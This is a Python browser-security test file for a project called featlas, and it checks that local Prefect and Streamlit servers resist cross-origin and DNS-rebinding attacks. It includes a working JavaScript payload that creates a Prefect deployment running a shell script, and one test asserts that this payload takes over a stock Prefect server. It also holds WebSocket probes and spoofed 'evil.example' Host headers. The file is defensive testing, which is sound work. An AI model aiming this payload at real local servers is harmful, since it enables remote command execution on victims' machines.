"""A page of another origin tries to use the services that featlas starts, in a real browser."""

import http.client
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NamedTuple
from urllib.request import urlopen

import psutil
import pytest
from playwright.sync_api import Browser, Page, Route, sync_playwright
from prefect.client.orchestration import SyncPrefectClient

from dashboards.launch import command as dashboard_command
from dashboards.launch import environment as dashboard_environment
from flows.access import access_key, authorization
from flows.attached import attached_command
from flows.engine import free_port, start_server

pytestmark = [pytest.mark.engine, pytest.mark.browser]

REBOUND = "rebound.test"  # a name of the attacker that now points to this machine
# New Chromium alone keeps pages of public sites from private addresses.
LIKE_OTHER_BROWSERS = "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"

# What the page tries; every part reports what it reached, as far as a page can know.
# `nameless` has no content type, so a browser sends it to anybody without asking first.
TAKE_OVER = """async api => {
  const seen = {};
  const ask = async (name, path, options) => {
    try {
      const reply = await fetch(api + path, options);
      seen[name] = reply.status;
      return reply.ok ? await reply.json() : null;
    } catch (error) { seen[name] = 'blocked'; return null; }
  };
  const json = body => ({
    method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(body)});
  await ask('read', '/admin/settings', {});
  await ask('nameless', '/flows/', {
    method: 'POST', mode: 'no-cors', body: new Blob([JSON.stringify({name: 'nameless'})])});
  const flow = await ask('flow', '/flows/', json({name: 'taken-over'}));
  const script = 'touch /tmp/taken-over';
  const deployment = flow && await ask('deployment', '/deployments/', json({
    name: 'shell', flow_id: flow.id,
    pull_steps: [{'prefect.deployments.steps.run_shell_script': {script}}]}));
  if (deployment)
    await ask('run', `/deployments/${deployment.id}/create_flow_run`, json({state: {type: 'SCHEDULED'}}));
  return seen;
}"""
OPEN_SOCKET = """address => new Promise(done => {
  const socket = new WebSocket(address, %s);
  socket.onopen = () => done('open');
  socket.onerror = () => done('refused');
  setTimeout(() => done('silent'), 10000);
})"""
EVENTS = OPEN_SOCKET % "['prefect']"
PAGES = OPEN_SOCKET % "['streamlit']"


class Target(NamedTuple):
    """A Prefect server: its port, and its key if it asks for one."""

    port: int
    key: str | None

    def names(self) -> set[str]:
        """The flows and deployments it knows."""
        with SyncPrefectClient(f"http://127.0.0.1:{self.port}/api", auth_string=self.key) as client:
            return {one.name for one in [*client.read_flows(), *client.read_deployments()]}


class OtherSite(BaseHTTPRequestHandler):
    """The attacker's page: whatever is asked, an empty page."""

    def do_GET(self) -> None:
        body = b"<!doctype html><title>kittens</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def other_site() -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), OtherSite) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{site.server_port}/"
        site.shutdown()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        arguments = ["--no-sandbox", f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1", LIKE_OTHER_BROWSERS]
        chromium = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=arguments)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def ours(tmp_path_factory: pytest.TempPathFactory, wait_for: Any) -> Iterator[Target]:
    """The server of `featlas run` and `featlas up`, started as both start it."""
    home = tmp_path_factory.mktemp("ours") / "prefect"
    home.mkdir()
    port = free_port()
    process = start_server(port, home=home, log=home / "server.log", with_ui=True, with_services=False)
    wait_for("the server", lambda: answers(port, "/api/health"), 120)
    yield Target(port, access_key(home))
    end(process)


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory, wait_for: Any) -> Iterator[Target]:
    """A Prefect server as it comes: the attack works on it, or it would prove nothing."""
    home = tmp_path_factory.mktemp("plain")
    port = free_port()
    command = [sys.executable, "-m", "prefect", "server", "start", "--port", str(port), "--no-services"]
    process = start(command, {"PREFECT_HOME": str(home), "DO_NOT_TRACK": "1"}, home / "log")
    wait_for("the plain server", lambda: answers(port, "/api/health"), 120)
    yield Target(port, None)
    end(process)


@pytest.fixture(scope="module")
def dashboard(tmp_path_factory: pytest.TempPathFactory, wait_for: Any) -> Iterator[int]:
    folder = tmp_path_factory.mktemp("dashboard")
    port = free_port()
    process = start(dashboard_command(port), dashboard_environment(folder / "catalogue"), folder / "log")
    wait_for("the dashboard", lambda: answers(port, "/_stcore/health"), 120)
    yield port
    end(process)


def start(command: list[str], environment: Mapping[str, str], log: Path) -> "subprocess.Popen[bytes]":
    inherited = {name: value for name, value in psutil.Process().environ().items() if "PREFECT" not in name}
    with log.open("wb") as output:
        return subprocess.Popen(
            attached_command(command), env={**inherited, **environment}, stdout=output, stderr=output
        )


def end(process: "subprocess.Popen[bytes]") -> None:
    process.terminate()
    process.wait(30)


def answers(port: int, path: str) -> bool:
    try:
        with urlopen(f"http://127.0.0.1:{port}{path}", timeout=5) as reply:
            return bool(reply.status == 200)
    except OSError:
        return False


def status(port: int, path: str, headers: Mapping[str, str] = {}) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection.putrequest("GET", path, skip_host=True)
    for name, value in ({"Host": f"127.0.0.1:{port}"} | dict(headers)).items():
        connection.putheader(name, value)
    connection.endheaders()
    try:
        return connection.getresponse().status
    finally:
        connection.close()


def page_at(browser: Browser, address: str) -> Page:
    """A page at an address; what its name serves is the attacker's, before the name points elsewhere."""

    def first_answer(route: Route) -> None:
        route.fulfill(status=200, content_type="text/html", body="<!doctype html><title>kittens</title>")

    page = browser.new_page()
    if REBOUND in address:
        page.route(address, first_answer)
    page.goto(address)
    return page


def places(other_site: str, port: int) -> list[str]:
    """Where the attacker's page may be: another port of this machine, and a name that was rebound."""
    return [other_site, f"http://{REBOUND}:{port}/kittens"]


def test_a_plain_server_is_taken_over_from_another_origin(
    browser: Browser, other_site: str, plain: Target
) -> None:
    for address in places(other_site, plain.port):
        name = REBOUND if REBOUND in address else "127.0.0.1"
        page = page_at(browser, address)
        seen = page.evaluate(TAKE_OVER, f"http://{name}:{plain.port}/api")
        assert (seen["read"], seen["run"]) == (200, 201), (address, seen)
        assert page.evaluate(EVENTS, f"ws://{name}:{plain.port}/api/events/in") == "open", address
        page.close()
    assert plain.names() == {"nameless", "taken-over", "shell"}


def test_no_page_of_another_origin_uses_our_server(browser: Browser, other_site: str, ours: Target) -> None:
    for address in places(other_site, ours.port):
        name = REBOUND if REBOUND in address else "127.0.0.1"
        page = page_at(browser, address)
        seen = page.evaluate(TAKE_OVER, f"http://{name}:{ours.port}/api")
        assert set(seen.values()) <= {"blocked", 0, 421}, (address, seen)
        for path in ("events/in", "events/out", "logs/out"):
            assert page.evaluate(EVENTS, f"ws://{name}:{ours.port}/api/{path}") == "refused", (address, path)
        page.close()
    assert ours.names() == set()


def test_no_page_of_another_origin_uses_the_dashboard(
    browser: Browser, other_site: str, dashboard: int
) -> None:
    for address in places(other_site, dashboard):
        name = REBOUND if REBOUND in address else "127.0.0.1"
        page = page_at(browser, address)
        assert page.evaluate(PAGES, f"ws://{name}:{dashboard}/_stcore/stream") == "refused", address
        page.close()


@pytest.mark.parametrize("path", ["/", "/api/health", "/api/admin/version", "/ui-settings"])
def test_the_server_answers_to_its_own_names_alone(ours: Target, path: str) -> None:
    key = authorization(ours.key)
    for host in (f"127.0.0.1:{ours.port}", f"localhost:{ours.port}"):
        assert status(ours.port, path, key | {"Host": host}) == 200
    for host in ("evil.example", f"evil.example:{ours.port}", "127.0.0.1.evil.example", "", "10.0.0.1"):
        assert status(ours.port, path, key | {"Host": host}) == 421, host


@pytest.mark.parametrize("path", ["/", "/_stcore/health", "/_stcore/host-config"])
def test_the_dashboard_answers_to_its_own_names_alone(dashboard: int, path: str) -> None:
    assert status(dashboard, path) == 200
    assert status(dashboard, path, {"Host": f"evil.example:{dashboard}"}) == 421
    assert status(dashboard, path, {"Origin": f"http://127.0.0.1:{ours_not(dashboard)}"}) == 403


def ours_not(port: int) -> int:
    return port - 1 if port > 1024 else port + 1


def test_without_the_key_nothing_but_health_is_told(ours: Target) -> None:
    paths = ("/api/version", "/api/admin/settings", "/api/csrf-token?client=me", "/api/flows/name/x")
    assert [status(ours.port, path) for path in paths] == [401] * 4
    assert [status(ours.port, path, authorization("featlas:wrong")) for path in paths] == [401] * 4
    assert status(ours.port, "/api/health") == 200


def test_a_person_enters_the_key_once_and_uses_the_pages(browser: Browser, ours: Target) -> None:
    page = browser.new_page()
    refused: list[str] = []
    page.goto(f"http://127.0.0.1:{ours.port}/dashboard")
    page.get_by_placeholder("admin:pass").fill(str(ours.key))
    page.get_by_role("button", name="Login").click()
    page.get_by_text("Run a task or flow to get started").wait_for()
    page.on("response", lambda reply: refused.append(reply.url) if reply.status in (401, 403, 421) else None)
    for name in ("Work Pools", "Event Feed"):
        page.get_by_text(name, exact=True).first.click()
        page.wait_for_load_state("networkidle")
    assert refused == []
    page.close()
